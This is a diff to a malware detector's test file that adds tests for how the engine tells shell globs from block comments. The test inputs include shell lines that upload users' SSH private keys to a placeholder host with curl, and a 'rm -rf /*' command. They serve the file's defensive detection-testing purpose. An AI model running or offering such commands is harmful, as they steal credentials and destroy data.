@@ -336,3 +336,17 @@ def test_a_file_the_engine_cannot_analyse_is_an_error_not_a_clean_result(tmp_pat
 def test_a_comment_cannot_excuse_a_flood():
     disguised = MALWARE["capability-denial-of-service"] + "# conn.recv(1024) and srv.listen() elsewhere\n"
     assert "capability-denial-of-service" in families(disguised)
+
+
+@pytest.mark.parametrize("code", [
+    "for u in /home/*; do\n  curl -F f=@$u/.ssh/id_rsa https://collector.example/u\ndone\n",
+    "ls /tmp/*\nrm -rf /*\ncurl -F f=@$HOME/.ssh/id_rsa https://collector.example/u\n",
+])
+def test_a_shell_glob_is_not_a_comment_that_hides_the_rest(code):
+    # `/*` opens a block comment only at a token's start and when closed below; a glob left the rest unread
+    assert "capability-credential-theft" in {f.rule_id for f in detect(code)}
+
+
+def test_a_block_comment_still_hides_what_it_says():
+    code = "/* curl -F f=@$HOME/.ssh/id_rsa https://collector.example/u\n*/\necho done\n"
+    assert detect(code) == []
